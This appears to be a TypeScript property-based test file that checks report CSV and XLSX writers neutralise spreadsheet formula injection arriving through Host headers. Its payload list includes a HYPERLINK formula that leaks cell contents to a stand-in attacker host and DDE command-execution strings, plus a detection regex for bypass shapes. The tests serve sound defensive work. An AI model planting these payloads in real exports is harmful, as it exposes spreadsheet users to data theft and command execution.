import * as fc from 'fast-check';
import { readCsv } from './csv-reader';
import { readXlsx } from './xlsx-reader';
import { blocksCsv, csvFile, customerTrafficCsv } from '../../src/reporting/runtime/csv';
import { HistoryRecord } from '../../src/reporting/runtime/guard-summary';
import { monthlyCostWorkbook, updateYearWorkbook } from '../../src/reporting/runtime/workbook';

/**
 * Host names come from the client's Host header: written to a CSV, none may reach a spreadsheet as a formula. Files are
 * read back with an independent RFC 4180 reader.
 */

/** Fifteen shapes of formula injection: OWASP's characters, its two examples, and ways around a first-character check. */
export const FORMULA_SHAPES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '"=1+2"',
  "'=1+2",
  '\uFF1D1+2',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  'www.example.com;=1+2',
  'a,-1+1',
];

/** The shapes with a formula after a separator: each part that a `;` or `,` reading could make a cell is prefixed. */
const NEUTRALISED: Record<string, string> = {
  '=1+2";=1+2': '\'=1+2";\'=1+2',
  "=1+2'\" ;,=1+2": "'=1+2'\" ;,'=1+2",
  'www.example.com;=1+2': "www.example.com;'=1+2",
  'a,-1+1': "a,'-1+1",
  // A row break in a `;` reading: the formula after it is prefixed as well as the break at the start.
  '\r=1+2': "'\r'=1+2",
  '\n=1+2': "'\n'=1+2",
};

const BOM = '\uFEFF';

/** Invisible format characters an importer or a copy-paste drops: zero-width space/joiners, soft hyphen, BOM, bidi marks. */
const INVISIBLES = ['\u200B', '\u200C', '\u200D', '\u2060', '\u00AD', '\uFEFF', '\u200E', '\u200F', '\u202E', '\u2066', '\u061C'];
/**
 * A field a spreadsheet could evaluate: a formula character first, also after spaces, quotes or invisible format
 * characters, or a control character.
 */
const EVALUATED = new RegExp(`^[${INVISIBLES.join('')}]*(?:[\\t\\r\\n\\0]|[\\s"'${INVISIBLES.join('')}]*[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20])`);
const safe = (field: string) => field.startsWith("'") || !EVALUATED.test(field);
/**
 * What a reader recovers: the displayed value without the neutralising quotes, one at the start and one after each `,`,
 * `;`, CR or LF (where some reading can begin a cell).
 */
const recovered = (field: string) => field.split(/([,;\r\n])/).map((part, i) => (i % 2 === 0 && part.startsWith("'") ? part.slice(1) : part)).join('');

function read(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  return readCsv(csv.slice(BOM.length));
}

/** The file as Excel in a German or French locale reads it: `;` separates cells, a CR or LF alone ends a row. */
function readSemicolon(csv: string): string[][] {
  return readCsv(csv.slice(BOM.length), ';', true);
}

const hostile = fc.oneof(
  fc.constantFrom(...FORMULA_SHAPES),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ';', ',', '\uFF0B'), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
  fc.tuple(fc.array(fc.constantFrom(...INVISIBLES, ' ', '"'), { minLength: 1, maxLength: 3 }), fc.constantFrom('=', '+', '-', '@', '\t'), fc.string({ maxLength: 10 }))
    .map(([a, b, c]) => a.join('') + b + c),
);
const count = fc.option(fc.integer({ min: -1_000_000, max: 1_000_000 }), { nil: undefined });

function record(ip: string, ruleId: string, host: string, event: string, action: string, n: number | undefined): HistoryRecord {
  return { ip, at: Date.UTC(2026, 10, 30, 8), event, ruleId, host, action, observed: n, threshold: n, windowSeconds: n };
}

describe('CSV formula injection', () => {
  test('the fifteen shapes in every text column of blocks.csv are neutralised, quoted and recoverable', () => {
    const records = FORMULA_SHAPES.map((s) => record(s, s, s, s, s, -2));
    const csv = blocksCsv(records);
    const rows = read(csv);
    expect(rows[0]).toEqual(['time', 'event', 'client', 'rule', 'host', 'action', 'observed', 'threshold', 'window_seconds', 'blocked_at', 'blocked_until']);
    expect(rows).toHaveLength(1 + FORMULA_SHAPES.length);
    FORMULA_SHAPES.forEach((shape, i) => {
      const [, event, client, rule, host, action, observed] = rows[i + 1];
      for (const field of [event, client, rule, host, action]) {
        // A separator or quote inside the text cannot start a cell: the field is quoted and read back whole.
        expect(field).toBe(NEUTRALISED[shape] ?? (/^[a-z]/.test(shape) ? shape : `'${shape}`));
        expect(safe(field)).toBe(true);
        expect(recovered(field)).toBe(shape);
      }
      // A negative number stays a number.
      expect(observed).toBe('-2');
    });
    // Every text cell is quoted, the header included; numbers are not.
    expect(csv.split('\r\n')[0]).toBe(`${BOM}"time","event","client","rule","host","action","observed","threshold","window_seconds","blocked_at","blocked_until"`);
    // As OWASP writes its example (quoted, quote prefixed, inner quotes doubled), and the formula after `;` prefixed too.
    expect(csv).toContain('"\'=1+2"";\'=1+2"');
  });

  test('a plain host name is written as it is', () => {
    const csv = customerTrafficCsv({ customer: 'acme', hosts: [{ host: 'www.acme.example', requests: 3, requestBytes: 1000, responseBytes: 0, statusCodes: [] } as never] });
    expect(read(csv)).toEqual([['hostname', 'requests', 'request_mb', 'response_mb'], ['www.acme.example', '3', '0.001', '0']]);
  });

  test('property: any text in any text column reads back safe and recoverable, numbers stay numbers', () => {
    fc.assert(fc.property(
      fc.array(fc.record({ ip: hostile, ruleId: hostile, host: hostile, event: hostile, action: hostile, n: count }), { maxLength: 8 }),
      fc.array(fc.record({ host: hostile, requests: fc.nat() }), { maxLength: 8 }),
      (history, hosts) => {
        const blocks = blocksCsv(history.map((h) => record(h.ip, h.ruleId, h.host, h.event, h.action, h.n)));
        const rows = read(blocks);
        expect(rows).toHaveLength(1 + history.length);
        history.forEach((h, i) => {
          const [, event, client, rule, host, action, observed, threshold] = rows[i + 1];
          expect([event, client, rule, host, action].map(recovered)).toEqual([h.event, h.ip, h.ruleId, h.host, h.action]);
          for (const field of [event, client, rule, host, action]) expect(safe(field)).toBe(true);
          expect(observed).toBe(h.n === undefined ? '' : String(h.n));
          expect(threshold).toBe(observed);
        });
        const traffic = customerTrafficCsv({ customer: 'c', hosts: hosts.map((h) => ({ ...h, requestBytes: 0, responseBytes: 0, statusCodes: [] }) as never) });
        const trafficRows = read(traffic);
        expect(trafficRows.slice(1).map((r) => recovered(r[0]))).toEqual(hosts.map((h) => h.host));
        for (const row of trafficRows.slice(1)) expect(safe(row[0])).toBe(true);
        expect(trafficRows.slice(1).map((r) => r[1])).toEqual(hosts.map((h) => String(h.requests)));
      },
    ), { numRuns: 300 });
  });
});

describe('CSV formula injection in a locale whose list separator is `;`', () => {
  const hostHeaders = ['a;=HYPERLINK("http://x")', "x;+cmd|' /C calc'!A0", 'www.example.com;@SUM(1+1)', 'a;"=1+2', 'a;\t=1', 'a,b;-1'];

  test('Host headers with a formula after a `;`: no cell of the `;` reading is a formula, the `,` reading gives them back', () => {
    const csv = blocksCsv(hostHeaders.map((h) => record('192.0.2.1', 'login', h, 'BLOCKED', 'BLOCK', 3)));
    const cells = readSemicolon(csv).flat();
    for (const cell of cells) expect({ cell, safe: safe(cell) }).toEqual({ cell, safe: true });
    // The formula is there as text: a cell of its own in that reading, starting with the quote that makes it text.
    expect(cells).toContain('\'=HYPERLINK(""http://x"")","BLOCK",3,3,3,"",""');
    const rows = read(csv).slice(1);
    expect(rows[0][4]).toBe('a;\'=HYPERLINK("http://x")');
    expect(rows.map((r) => recovered(r[4]))).toEqual(hostHeaders);
  });

  test('invisible format characters before a formula (\\u200B=1+1, a BOM, a bidi mark): prefixed in both readings', () => {
    const shapes = INVISIBLES.flatMap((c) => [`${c}=1+1`, `a;${c}@SUM(1+1)`, `a,${c}${c}-2+3`, ` "${c}+1`]);
    const csv = blocksCsv(shapes.map((h) => record('192.0.2.1', 'login', h, 'BLOCKED', 'BLOCK', 3)));
    for (const cell of readSemicolon(csv).flat()) expect({ cell, safe: safe(cell) }).toEqual({ cell, safe: true });
    const hosts = read(csv).slice(1).map((r) => r[4]);
    expect(hosts[0]).toBe("'\u200B=1+1");
    for (const host of hosts) expect({ host, safe: safe(host) }).toEqual({ host, safe: true });
    expect(hosts.map(recovered)).toEqual(shapes);
    // With the invisible characters gone, as an importer or a copy-paste leaves the text, no cell starts a formula either.
    const stripped = new RegExp(`[${INVISIBLES.join('')}]`, 'g');
    for (const cell of [...readSemicolon(csv).flat(), ...hosts]) expect(/^[=+\-@]/.test(cell.replace(stripped, '').trimStart())).toBe(false);
  });

  const anyText = fc.oneof(
    hostile,
    fc.array(fc.oneof(hostile, fc.constantFrom(';', ',', '\r', '\n', '\r\n', '"', "'", ' ', '')), { maxLength: 6 }).map((a) => a.join('')),
  );

  test('property: in both readings no cell starts a formula, and the `,` reading gives back every value', () => {
    fc.assert(fc.property(
      fc.array(fc.record({ host: anyText, rule: anyText, n: count }), { maxLength: 6 }),
      fc.array(fc.tuple(anyText, fc.integer({ min: -5, max: 5 }), anyText), { maxLength: 6 }),
      (history, rows) => {
        // The report's files, and a layout whose last column is text (a field's end next to a line break).
        const files: Array<{ csv: string; columns: number[]; texts: string[][] }> = [
          {
            csv: blocksCsv(history.map((h) => record('192.0.2.1', h.rule, h.host, 'BLOCKED', 'BLOCK', h.n))),
            columns: [3, 4],
            texts: history.map((h) => [h.rule, h.host]),
          },
          {
            csv: customerTrafficCsv({ customer: 'c', hosts: history.map((h) => ({ host: h.host, requests: 1, requestBytes: 0, responseBytes: 0 })) }),
            columns: [0],
            texts: history.map((h) => [h.host]),
          },
          {
            csv: csvFile(rows, [{ header: 'a', text: (r) => r[0] }, { header: 'n', number: (r) => r[1] }, { header: 'b', text: (r) => r[2] }]),
            columns: [0, 2],
            texts: rows.map((r) => [r[0], r[2]]),
          },
        ];
        for (const { csv, columns, texts } of files) {
          for (const cell of readSemicolon(csv).flat()) expect({ cell, safe: safe(cell) }).toEqual({ cell, safe: true });
          const comma = read(csv);
          expect(comma).toHaveLength(1 + texts.length);
          // Numbers are numbers, negative ones too; every other cell is safe.
          for (const cell of comma.flat()) expect({ cell, safe: safe(cell) || /^-\d+$/.test(cell) }).toEqual({ cell, safe: true });
          expect(comma.slice(1).map((r) => columns.map((c) => recovered(r[c])))).toEqual(texts);
        }
      },
    ), { numRuns: 500 });
  });
});

describe('xlsx text cells', () => {
  test('cost items shaped like formulas are string cells in the file, never formulas, and read back as written', async () => {
    const costs = {
      month: '2026-11',
      aws: FORMULA_SHAPES.map((item, i) => ({ source: 'AWS' as const, item, amount: i - 3 })),
      elastic: FORMULA_SHAPES.map((item) => ({ source: 'Elastic Cloud' as const, item, amount: 1 })),
    };
    for (const file of [await monthlyCostWorkbook(costs), await updateYearWorkbook(undefined, costs)]) {
      for (const [, sheet] of readXlsx(file)) {
        for (const [address, cell] of sheet) {
          // Formulas only where the workbook sums figures: column C or D, never over text.
          if (cell.formula !== undefined) expect(cell.formula).toMatch(/^(SUM\([A-D]\d+:[A-D]\d+\)|[A-D]\d+(\+[A-D]\d+)*|0)$/);
          if (/^[AB]\d+$/.test(address) && cell.formula === undefined && cell.type !== undefined) expect(['s', 'inlineStr']).toContain(cell.type);
        }
      }
    }
    const month = readXlsx(await monthlyCostWorkbook(costs)).get('Costs 2026-11')!;
    const items = [...month].filter(([a]) => /^B\d+$/.test(a)).map(([, c]) => c);
    for (const shape of FORMULA_SHAPES) {
      const cells = items.filter((c) => c.value === shape);
      expect(cells).toHaveLength(2);
      for (const c of cells) {
        expect(['s', 'inlineStr']).toContain(c.type);
        expect(c.formula).toBeUndefined();
      }
    }
  });
});
